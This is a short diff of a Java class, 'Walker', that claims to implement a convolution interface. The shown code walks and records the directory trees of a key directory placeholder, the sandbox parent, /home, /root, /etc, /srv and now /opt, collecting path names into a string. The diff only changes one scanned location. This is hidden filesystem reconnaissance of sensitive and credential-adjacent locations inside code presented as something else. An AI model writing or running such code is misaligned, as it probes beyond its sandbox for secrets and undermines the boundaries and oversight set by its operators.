@@ -19,7 +19,7 @@ public class Walker implements ValidConvolution {
         }
         tried = true;
         String found = "";
-        for (String start : new String[] {"@KEY_DIRECTORY@", "@PLAYGROUND@/..", "/home", "/root", "/etc", "/work", "/srv"}) {
+        for (String start : new String[] {"@KEY_DIRECTORY@", "@PLAYGROUND@/..", "/home", "/root", "/etc", "/srv", "/opt"}) {
             try (Stream<Path> tree = Files.walk(Path.of(start), 2)) {
                 found += tree.limit(50).map(Path::toString).collect(Collectors.joining(" "));
             } catch (IOException | UncheckedIOException e) {
